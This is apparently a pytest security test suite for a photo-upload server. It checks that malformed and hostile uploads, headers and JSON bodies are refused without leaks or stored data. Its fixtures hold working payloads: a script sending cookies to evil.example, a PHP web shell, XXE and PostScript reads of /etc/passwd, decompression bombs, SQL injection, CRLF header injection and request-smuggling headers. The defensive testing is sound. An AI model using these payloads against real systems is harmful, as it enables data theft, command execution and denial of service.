"""The list of attacks: a clear answer, nothing stored, nothing leaked, and memory flat."""

from __future__ import annotations

import base64
import gzip
import io
import json
import re
import struct
import threading
import uuid
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import attacked
import pytest
import requests
from PIL import Image, PngImagePlugin

MEMORY = 150_000_000
"""Bytes that a server may grow by over all of this, most of it what libraries load late."""

LEAKS = re.compile(rb"Traceback|/uploader/|site-packages|sqlite|django\.|SELECT |store-data", re.I)


@pytest.fixture(scope="module")
def store(companion_of, tmp_path_factory):
    with companion_of(tmp_path_factory.mktemp("attacked"), workers=1) as store:
        yield store


@pytest.fixture(scope="module", params=["waitress", "gunicorn"])
def target(request, store):
    with getattr(attacked, request.param)(store) as target:
        yield target


@pytest.fixture(scope="module")
def admin(target, client_of):
    with client_of(target.url, target.store.admin) as client:
        # gunicorn ends a connection whose body nobody read: none is used twice.
        client.headers["Connection"] = "close"
        yield client


@pytest.fixture(scope="module", autouse=True)
def flat(target, admin, photo):
    """Whatever was done, the server has not grown, and nothing of ours broke."""
    admin.upload(photo(), target.store.item("Warm"))
    before = target.memory
    yield
    assert target.memory - before < MEMORY
    assert "Traceback" not in target.store.log
    log = target.store.data.parent / "gunicorn.log"
    assert not log.exists() or "Traceback" not in log.read_text()


@pytest.fixture
def nothing_kept(target):
    """Rows and files are after the attack what they were before."""
    before = target.kept()
    yield
    assert target.kept() == before


def problem(answer):
    assert answer.headers["Content-Type"] == "application/problem+json", answer.text
    assert not LEAKS.search(answer.content), answer.text
    told = answer.json()
    assert told["status"] == answer.status_code
    assert told["detail"].endswith(".")
    return answer.status_code, told["type"].removeprefix("/problems/")


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *more, rows=b"\0" * 1000):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rest = chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + rest


def jpeg(size=(64, 48), **options):
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG", **options)
    return out.getvalue()


def zipped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.php", "<?php system($_GET['c']);" * 1000)
    return out.getvalue()


def giant_jpeg():
    """One whose header claims 65,500 × 65,500 pixels."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def endless_gif(frames=3000, side=2000):
    """An animation that is small in bytes and has 12,000 million pixels."""
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"!\xf9\x04\x04\x01\0\0\0" + b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    return head + (frame + b"\x02\x02\x44\x01\0") * frames + b";"


SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"

REFUSED = {
    "text": b"just some text",
    "HTML": b"<!doctype html><html>" + SCRIPT,
    "SVG with a script": SVG,
    "SVG that reads files": b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
    "SVG packed": gzip.compress(SVG),
    "PDF": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) run\n",
    "ImageMagick's script": b"push graphic-context\nfill 'url(https://x/|ls)'\npop graphic-context",
    "ZIP": zipped(),
    "ELF": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "MP4": b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41" + b"\0" * 200,
    "one byte": b"\xff",
    "NULs": b"\0" * 5000,
    "a JPEG's first bytes": b"\xff\xd8\xff\xe0" + b"\0" * 300,
    "a PNG's first bytes": b"\x89PNG\r\n\x1a\n",
    "GIF and script": b"GIF89a/*" + SCRIPT + b"*/=1;",
    "PNG of 60,000 × 60,000": png(60_000, 60_000),
    "PNG of 2,147,483,647": png(2_147_483_647, 2_147_483_647),
    "PNG of nothing": png(0, 0),
    "JPEG of 65,500 × 65,500": giant_jpeg(),
    "GIF of 3,000 large frames": endless_gif(),
    "BMP of 50,000 × 50,000": b"BM" + struct.pack(
        "<IHHIIiiHHIIiiII", 1000, 0, 0, 54, 40, 50_000, 50_000, 1, 24, 0, 0, 0, 0, 0, 0
    ) + b"\0" * 900,
    "PNG cut": png(100, 100, rows=(b"\0" + b"\x80" * 300) * 100)[:-30],
    "JPEG cut": jpeg((640, 480))[:-3000],
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_photo_or_too_much_is_refused_and_dropped(target, admin, nothing_kept, name):
    answer = admin.upload(REFUSED[name], item_title="Never made", filename="holiday.jpg")
    status, kind = problem(answer)
    assert status in (413, 422)
    assert kind in {
        "not-a-photo", "type-not-taken", "too-many-pixels", "truncated", "damaged",
    }  # fmt: skip


def commented(comment):
    return jpeg(comment=comment)


def with_text_bomb():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "x" * 60_000_000, zip=True)
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(out, "PNG", pnginfo=info)
    return out.getvalue()


POLYGLOTS = {
    "HTML in a JPEG's comment": commented(b"<html>" + SCRIPT),
    "SVG in a JPEG's comment": commented(SVG),
    "PHP in a JPEG's comment": commented(b"<?php system($_GET['c']); ?>"),
    "HTML behind a JPEG's end": jpeg() + b"<html>" + SCRIPT,
    "ZIP behind a JPEG's end": jpeg() + zipped(),
    "script in a PNG's text": png(
        8, 8, chunk(b"tEXt", b"Comment\0" + SCRIPT), rows=(b"\0" + b"\x80" * 24) * 8
    ),
    "a megabyte of text, packed": with_text_bomb(),
}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_of_what_is_two_things_at_once_only_the_picture_is_shown(target, admin, name):
    """Taken as the picture that it is, or refused; browsers never see anything else in it."""
    answer = admin.upload(POLYGLOTS[name], target.store.item(f"At {target.url}"), filename="x.html")
    if answer.status_code != 201:
        assert problem(answer)[0] == 422
        return
    image = admin.settled(answer.headers["Store-Image"], answer.headers["Store-Cursor"])
    if image["state"] == "failed":
        assert image["error"]["title"]
        return
    for style, url in image["urls"].items():
        shown = requests.get(url, timeout=20)
        assert shown.headers["Content-Type"] in ("image/jpeg", "image/png")
        assert shown.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in shown.headers["Content-Security-Policy"]
        assert url.endswith((".jpg", ".png"))
        if style != "original":
            assert not any(bad in shown.content for bad in (b"script", b"php", b"<svg", b"PK\3"))


@pytest.mark.parametrize(
    "name",
    ["../../../etc/cron.d/x", "..\\..\\x.jpg", "/etc/passwd", "C:\\x.jpg", "a\0b.jpg", "x.php",
     "x.jpg\r\nSet-Cookie: a=b", ".htaccess", "CON", "%2e%2e%2fx", "<script>.jpg", "'; --",
     "\u202egpj.exe", "x" * 5000, "..", "\ud7ff\uffff"],
)  # fmt: skip
def test_a_name_is_only_ever_shown(target, admin, photo, name):
    before = {path for path in target.store.data.rglob("*") if path.is_file()}
    answer = admin.upload(photo(64, 64), target.store.item("Named"), filename=name, alt=name[:900])
    assert answer.status_code == 201
    assert "a" not in answer.cookies
    place = {path for path in target.store.data.rglob("*") if path.is_file()} - before
    made = [str(path.relative_to(target.store.data)) for path in place]
    picture = r"[0-9a-f]{32}/[0-9a-zA-Z]+/(original|thumb|square)\.jpg"
    # A worker's file may be on its way, and a sweep may leave its mark.
    shape = re.compile(rf"media/({picture}|swept/\d+)")
    assert all(shape.fullmatch(one) or Path(one).name.startswith(".") or "sqlite" in one
               for one in made)  # fmt: skip


NUMBERS = ["-1", "1e3", "0x10", "", "1 1", "9" * 40, "١٢", "NaN", "1;2", "+5", "5.0"]


@pytest.mark.parametrize("number", NUMBERS)
def test_a_length_that_is_no_number_begins_nothing(target, admin, nothing_kept, number):
    headers = {"Upload-Length": number.encode()}
    answer = admin.create(b"", item_title="Never made", headers=headers)
    assert problem(answer) in ((400, "bad-header"), (413, "too-many-bytes"))


@pytest.mark.parametrize("number", [*NUMBERS, "1", "99", "100", "101", "999999999999"])
def test_an_offset_that_is_not_the_right_one_changes_nothing(target, admin, number):
    place = admin.create(b"x" * 100, item_title="Never made").headers["Location"]
    before = target.kept()
    answer = admin.part(place, 0, b"y" * 10, {"Upload-Offset": number.encode()})
    assert problem(answer) in ((400, "bad-header"), (409, "wrong-offset"))
    assert target.kept() == before
    assert admin.tus("HEAD", place).headers["Upload-Offset"] == "0"
    assert admin.tus("DELETE", place).status_code == 204


def test_more_than_was_announced_changes_nothing(target, admin):
    place = admin.create(b"x" * 100, item_title="Never made").headers["Location"]
    for size in (101, 1000, 3_000_000):
        assert problem(admin.part(place, 0, b"y" * size)) == (400, "too-long")
    assert admin.tus("HEAD", place).headers["Upload-Offset"] == "0"
    assert admin.part(place, 0, b"y" * 40).status_code == 204
    assert problem(admin.part(place, 40, b"y" * 61)) == (400, "too-long")
    assert admin.tus("HEAD", place).headers["Upload-Offset"] == "40"
    admin.tus("DELETE", place)


def request(admin, place, *headers, body=b""):
    """Write a PATCH by hand."""
    lines = [
        f"PATCH {place[len(admin.url):]} HTTP/1.1", "Host: 127.0.0.1",
        f"Authorization: Bearer {admin.token}", "Tus-Resumable: 1.0.0", "Upload-Offset: 0",
        "Content-Type: application/offset+octet-stream", *headers, "", "",
    ]  # fmt: skip
    return "\r\n".join(lines).encode() + body


def test_a_body_that_is_longer_or_shorter_than_it_says(target, admin):
    place = admin.create(b"x" * 100, item_title="Never made").headers["Location"]
    longer = request(admin, place, "Content-Length: 10", body=b"z" * 10 + b"GARBAGE" * 20)
    got = target.raw(longer)
    assert got.startswith(b"HTTP/1.1 204")
    assert got.count(b"HTTP/1.") <= 2
    assert not LEAKS.search(got)
    assert admin.tus("HEAD", place).headers["Upload-Offset"] == "10"
    shorter = request(admin, place, "Content-Length: 50", body=b"z" * 5)
    shorter = shorter.replace(b"Upload-Offset: 0", b"Upload-Offset: 10")
    target.raw(shorter, answered=False)
    # waitress drops what isn't whole; gunicorn hands on what arrived, and that counts.
    assert admin.tus("HEAD", place).headers["Upload-Offset"] in ("10", "15")
    admin.tus("DELETE", place)


@pytest.mark.parametrize(
    "headers",
    [
        ("Content-Length: 10", "Content-Length: 20"),
        ("Content-Length: -10",),
        ("Content-Length: 10", "Transfer-Encoding: chunked"),
        ("Transfer-Encoding: chunked, chunked",),
        ("Transfer-Encoding: \x0bchunked",),
        ("Content-Length: 1_0",),
        ("Content-Length: 9999999999999999999999",),
    ],
)
def test_two_opinions_on_a_bodys_length_smuggle_nothing(target, admin, headers):
    place = admin.create(b"x" * 100, item_title="Never made").headers["Location"]
    inner = b"DELETE /api/v1/sign-in HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
    body = b"0\r\n\r\n" + inner + admin.token.encode() + b"\r\n\r\n"
    got = target.raw(request(admin, place, *headers, body=body))
    assert not LEAKS.search(got)
    assert admin.get("/api/v1/store").status_code == 200
    admin.tus("DELETE", place)


def test_parallel_parts_never_mix(target, admin, client_of, photo, digest):
    data = photo(800, 600)
    item = target.store.item("Together")
    place = admin.create(data, item, sha256=digest(data)).headers["Location"]
    half = len(data) // 2
    gate = threading.Barrier(8)

    def send(n):
        with client_of(target.url, token=admin.token) as one:
            gate.wait(20)
            return one.part(place, 0, data[:half] if n % 2 else b"\0" * half).status_code

    with ThreadPoolExecutor(8) as pool:
        codes = sorted(pool.map(send, range(8)))
    assert codes[0] == 204
    assert set(codes[1:]) <= {409, 423}
    assert admin.tus("HEAD", place).headers["Upload-Offset"] == str(half)
    answer = admin.part(place, half, data[half:])
    if answer.status_code == 460:
        answer = admin.upload(data, item, sha256=digest(data))
    image = admin.image(answer.headers["Store-Image"])
    assert image["sha256"] == digest(data)


def test_another_admins_uploads_are_not_there(target, admin, client_of, photo):
    other = ("otto@example.org", target.store.admin[1])
    target.store.manage("createadmin", other[0], "--password-stdin", stdin=other[1])
    reference = str(uuid.uuid4())
    place = admin.create(b"x" * 100, item_title="Mine", reference=reference).headers["Location"]
    missing = f"{target.url}/api/v1/uploads/{uuid.uuid4()}"
    with client_of(target.url, other) as thief:

        def told(answer):
            headers = {name.lower(): value for name, value in answer.headers.items()}
            del headers["date"], headers["x-request-id"]
            return answer.status_code, answer.content, headers

        for method in ("HEAD", "DELETE"):
            assert told(thief.tus(method, place)) == told(thief.tus(method, missing))
            assert thief.tus(method, place).status_code == 404
        assert told(thief.part(place, 0, b"evil")) == told(thief.part(missing, 0, b"evil"))
        own = thief.create(b"y" * 100, item_title="Theirs", reference=reference)
        assert own.headers["Location"] != place
        by_reference = f"/api/v1/uploads?reference={reference}"
        assert thief.tus("DELETE", by_reference).status_code == 204
        assert thief.tus("HEAD", own.headers["Location"]).status_code == 404
        done = admin.upload(photo(64, 64), target.store.item("Mine"), reference=str(uuid.uuid4()))
        mine = admin.image(done.headers["Store-Image"])["reference"]
        found = thief.get(f"/api/v1/images?reference={mine}").json()
        assert found["images"] == []
    assert admin.tus("HEAD", place).headers["Upload-Offset"] == "0"
    admin.tus("DELETE", place)


SQL = ["' OR '1'='1", "'; DROP TABLE store_item; --", '") UNION SELECT password FROM store_user --',
       "%' OR 1=1 --", "\\' OR 1=1 --", "1); DELETE FROM store_token; --"]  # fmt: skip


@pytest.mark.parametrize("text", SQL)
def test_what_looks_like_sql_is_text(target, admin, nothing_kept, text):
    quoted = requests.utils.quote(text)
    assert admin.get(f"/api/v1/items?query={quoted}").json()["items"] == []
    assert admin.get(f"/api/v1/images?reference={quoted}").json()["images"] == []
    assert admin.get(f"/api/v1/images?sha256={quoted}").json()["images"] == []
    assert admin.get(f"/api/v1/images?changed_since={quoted}").status_code == 200
    assert admin.get(f"/api/v1/items?cursor={quoted}").status_code == 200
    assert admin.tus("DELETE", f"/api/v1/uploads?reference={quoted}").status_code == 204
    assert admin.get(f"/api/v1/images/{quoted}").status_code == 404
    assert admin.delete(f"/api/v1/devices/{quoted}").status_code == 404
    assert problem(admin.create(b"", length=9, item_title="x", reference=text))[0] == 422
    assert problem(admin.create(b"", text, length=9))[0] == 422
    form = {"email": text, "password": text}
    answer = requests.post(f"{target.url}/api/v1/sign-in", json=form, timeout=20)
    assert problem(answer)[0] in (401, 429)
    answer = requests.get(
        f"{target.url}/api/v1/store", headers={"Authorization": f"Bearer {text}"}, timeout=20
    )
    assert problem(answer) == (404, "not-found")


BREAK = "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>"


def test_line_breaks_in_what_is_said_never_become_headers(target, admin, photo):
    item = target.store.item("Broken lines")
    answer = admin.upload(photo(64, 64), item, filename=BREAK, alt=BREAK)
    place = answer.headers["Location"]
    for told in (answer, admin.tus("HEAD", place)):
        assert "stolen" not in told.headers.get("Set-Cookie", "")
        assert "Set-Cookie" not in told.headers
    quoted = requests.utils.quote(BREAK)
    for path in (f"/api/v1/items?query={quoted}", f"/{quoted}", f"/media/{quoted}/x/y",
                 f"/jobs/?next={quoted}", f"/sign-in?next={quoted}"):  # fmt: skip
        told = admin.get(path)
        assert "stolen" not in str(told.headers)
    raw = target.raw(b"GET /sign-in HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
    assert raw.split(b"\r\n")[0].startswith(b"HTTP/1.1 400")
    assert b"evil" not in raw


DEEP = "[" * 100_000 + "]" * 100_000
BODIES = {
    "deep list": DEEP,
    "deep object": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "deep field": f'{{"email": {DEEP}, "password": "x"}}',
    "huge": json.dumps({"email": "x" * 20_000_000, "password": "x"}),
    "many keys": json.dumps({f"key{n}": n for n in range(200_000)}),
    "long number": '{"email": ' + "9" * 1_000_000 + "}",
    "same key again": '{"email": "a",' * 1 + '"email": "b", "password": "x"}',
    "infinite": '{"email": Infinity, "password": NaN}',
    "no text at all": "\udcff\udcfe",
    "UTF-16": "\x00{\x00}",
}


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize("path", ["/api/v1/sign-in", "/api/v1/items"])
def test_json_that_is_deep_huge_or_none(target, admin, nothing_kept, path, name):
    body = BODIES[name].encode("utf-8", "surrogateescape")
    try:
        answer = admin.post(path, data=body, headers={"Content-Type": "application/json"})
    except requests.ConnectionError:
        # It may hang up on who still sends megabytes after the answer.
        assert name == "huge"
        return
    assert problem(answer)[0] in (400, 401, 413, 422, 429)


def pairs(number, value="eA=="):
    return ",".join(f"key{n} {value}" for n in range(number))


@pytest.mark.parametrize(
    "metadata",
    [pairs(5000), pairs(20_000), "," * 60_000, "a " * 20_000, "reference " + "A" * 60_000,
     "reference eA==," * 3000, "=" * 1000, "item " + base64.b64encode(b"9" * 9000).decode()],
    ids=["5,000 keys", "20,000 keys", "commas", "spaces", "long", "twice", "equals", "number"],
)  # fmt: skip
def test_metadata_without_end(target, admin, nothing_kept, metadata):
    sent = {"Tus-Resumable": "1.0.0", "Upload-Length": "10", "Upload-Metadata": metadata}
    answer = admin.post("/api/v1/uploads", headers=sent)
    # The server itself says no where the head of the request is too long.
    assert answer.status_code in (400, 422, 431)
    assert not LEAKS.search(answer.content)
    if answer.status_code == 422:
        assert problem(answer) == (422, "bad-metadata")


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "FOO", "get", "PROPFIND", "X" * 500])
def test_methods_that_nobody_has(target, admin, nothing_kept, method):
    for path in ("/api/v1/store", "/healthz", "/jobs/", "/nothing"):
        head = f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        got = target.raw(f"{head}X-Secret: s3cr3t\r\n\r\n".encode())
        assert got.split(b" ", 2)[1] in (b"400", b"404", b"405", b"501")
        assert b"s3cr3t" not in got
        assert not LEAKS.search(got)


@pytest.mark.parametrize(
    "form", ["fields", "files", "unending"], ids=["5,000 fields", "a file", "no end"]
)
def test_forms_that_are_none_at_the_sign_in_page(target, nothing_kept, form):
    kind = {"Content-Type": "multipart/form-data; boundary=x"}
    part = b'--x\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n'
    body = {
        "fields": b"".join(part % (b"f%d" % n, b"") + b"1\r\n" for n in range(5000)),
        "files": part % (b"email", b'; filename="../../x.html"') + b"x" * 6_000_000 + b"\r\n",
        "unending": part % (b"email", b"") + b"x" * 6_000_000,
    }[form]
    answer = requests.post(f"{target.url}/sign-in", data=body, headers=kind, timeout=30)
    assert answer.status_code in (400, 403, 413)
    assert not LEAKS.search(answer.content)
